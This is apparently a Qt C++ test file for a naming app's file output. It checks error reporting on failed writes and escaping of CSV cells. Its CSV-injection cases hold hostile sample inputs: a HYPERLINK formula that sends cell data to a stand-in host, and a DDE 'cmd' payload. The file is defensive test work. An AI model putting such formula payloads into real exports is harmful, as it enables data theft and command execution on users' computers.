// Files the window writes (the shortlist, CSV and PDF exports) when the write fails: a path that
// cannot be created, and a disk that fills up in the middle of the write (a file size limit
// stands in for the full disk). Each failure is reported, and a file written before stays whole.

#include "core/tables.h"
#include "ui/fileoutput.h"
#include "ui/messagebox.h"
#include "ui/shortlist.h"
#include "ui/shortlistpage.h"

#include <QDir>
#include <QFile>
#include <QTableWidget>
#include <QTemporaryDir>
#include <QTest>
#include <QTextDocument>

#include <csignal>
#include <sys/resource.h>

using namespace hmf::ui;

namespace {

// Writes past `bytes` fail with EFBIG, as they would on a full disk, until the guard ends.
class FileSizeLimit
{
  public:
    explicit FileSizeLimit(rlim_t bytes)
    {
        std::signal(SIGXFSZ, SIG_IGN);
        getrlimit(RLIMIT_FSIZE, &m_saved);
        rlimit limited = m_saved;
        limited.rlim_cur = bytes;
        setrlimit(RLIMIT_FSIZE, &limited);
    }
    ~FileSizeLimit() { setrlimit(RLIMIT_FSIZE, &m_saved); }

  private:
    rlimit m_saved{};
};

// What each kind of output writes: far more than the limit below.
bool write(const QString& kind, const QString& file, QString* error)
{
    QString text;
    for (int i = 0; i < 2000; ++i)
        text += QStringLiteral("林子涵 第%1行 好记，也好写。\n").arg(i);
    if (kind == QLatin1String("csv"))
        return writeWhole(file, text.toUtf8(), error);
    if (kind == QLatin1String("pdf")) {
        QTextDocument document;
        document.setPlainText(text);
        return writePdf(document, file, error);
    }
    Shortlist shortlist(file);
    for (int i = 0; i < 200; ++i) {
        ShortlistEntry entry;
        entry.surname = QStringLiteral("林");
        entry.givenName = QStringLiteral("子涵%1").arg(i);
        entry.note = text.left(200);
        shortlist.add(entry);
    }
    return shortlist.save(error);
}

} // namespace

class TestFileOutput : public QObject
{
    Q_OBJECT

  private slots:
    void failedWritesAreReportedAndKeepTheOldFile_data();
    void failedWritesAreReportedAndKeepTheOldFile();
    void keptNameThatCannotBeSavedIsNotReportedAsSaved();
    void csvCellsNeverStartAFormula_data();
    void csvCellsNeverStartAFormula();
};

void TestFileOutput::failedWritesAreReportedAndKeepTheOldFile_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<bool>("fullDisk");
    for (const char* kind : {"csv", "pdf", "shortlist"}) {
        QTest::addRow("%s, a directory that is a file", kind) << QString::fromLatin1(kind) << false;
        QTest::addRow("%s, full disk", kind) << QString::fromLatin1(kind) << true;
    }
}

void TestFileOutput::failedWritesAreReportedAndKeepTheOldFile()
{
    QFETCH(QString, kind);
    QFETCH(bool, fullDisk);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    QString file = dir.filePath(QStringLiteral("out"));
    if (fullDisk) {
        // An earlier export or list of a few bytes, then a write that does not fit.
        QFile earlier(file);
        QVERIFY(earlier.open(QIODevice::WriteOnly));
        earlier.write("earlier");
        earlier.close();
    } else {
        QFile blocker(dir.filePath(QStringLiteral("blocker")));
        QVERIFY(blocker.open(QIODevice::WriteOnly));
        blocker.close();
        file = dir.filePath(QStringLiteral("blocker/out"));
    }

    QString error;
    bool written = false;
    {
        const FileSizeLimit limit(fullDisk ? 4096 : RLIM_INFINITY);
        written = write(kind, file, &error);
    }
    QVERIFY(!written);
    QVERIFY2(error.contains(QStringLiteral("无法写入")) || error.contains(QStringLiteral("未保存")),
             qPrintable(error));
    QVERIFY2(error.contains(QStringLiteral("out")), qPrintable(error));
    if (fullDisk) {
        QFile earlier(file);
        QVERIFY(earlier.open(QIODevice::ReadOnly));
        QCOMPARE(earlier.readAll(), QByteArray("earlier"));
    } else {
        QVERIFY(!QFile::exists(file));
    }
    // Nothing half-written is left beside it.
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files).size(), 1);

    // Without the fault the same write succeeds.
    if (fullDisk) {
        QVERIFY2(write(kind, file, &error), qPrintable(error));
        QVERIFY(QFile(file).size() > 4096);
    }
}

void TestFileOutput::keptNameThatCannotBeSavedIsNotReportedAsSaved()
{
    const auto loaded = hmf::core::loadTables(qEnvironmentVariable("HMF_DATA_DIR").toStdString());
    QVERIFY2(loaded, loaded ? "" : loaded.error().message().c_str());
    const auto& tables = *loaded;
    QTemporaryDir dir;
    QFile blocker(dir.filePath(QStringLiteral("blocker")));
    QVERIFY(blocker.open(QIODevice::WriteOnly));
    blocker.close();

    QStringList messages;
    MessageBox::setHook([&](const QString& text, MessageBox::Icon) { messages.append(text); });
    ShortlistPage page(*tables, dir.filePath(QStringLiteral("blocker/shortlist.json")));
    ShortlistEntry entry;
    entry.surname = QStringLiteral("林");
    entry.givenName = QStringLiteral("子涵");
    page.add(entry);
    MessageBox::setHook({});

    // One warning that names the failure; the name stays in the list for this run.
    QCOMPARE(messages.size(), 1);
    QVERIFY2(messages[0].contains(QStringLiteral("未能保存")) &&
                 messages[0].contains(QStringLiteral("无法写入")),
             qPrintable(messages[0]));
    QVERIFY(!messages[0].contains(QStringLiteral("已将")));
    QCOMPARE(page.findChild<QTableWidget*>(QStringLiteral("表格_收藏"))->rowCount(), 1);
}

void TestFileOutput::csvCellsNeverStartAFormula_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QByteArray>("written");
    // Formulas as LibreOffice and Excel take them, and texts that only look alike.
    QTest::newRow("=HYPERLINK") << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1;\"看\")")
                                << QByteArray("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;"
                                              "\"\"看\"\")\"");
    QTest::newRow("+cmd") << QStringLiteral("+1+cmd|' /C calc'!A0")
                          << QByteArray("'+1+cmd|' /C calc'!A0");
    QTest::newRow("-sum") << QStringLiteral("-2+3") << QByteArray("'-2+3");
    QTest::newRow("@SUM") << QStringLiteral("@SUM(1;2)") << QByteArray("'@SUM(1;2)");
    QTest::newRow("tab") << QStringLiteral("\t=1+1") << QByteArray("'\t=1+1");
    QTest::newRow("CR") << QStringLiteral("\r=1+1") << QByteArray("\"'\r=1+1\"");
    QTest::newRow("formula later in the text")
        << QStringLiteral("好记 =1+1") << QByteArray("好记 =1+1");
    QTest::newRow("empty") << QString() << QByteArray();
}

void TestFileOutput::csvCellsNeverStartAFormula()
{
    QFETCH(QString, cell);
    QFETCH(QByteArray, written);
    const QByteArray csv = csvDocument(
        {{QStringLiteral("名字"), QStringLiteral("备注")}, {QStringLiteral("林子涵"), cell}});
    QCOMPARE(csv, QByteArray("\xEF\xBB\xBF名字,备注\r\n林子涵,") + written + "\r\n");
}

QTEST_MAIN(TestFileOutput)
#include "test_fileoutput.moc"
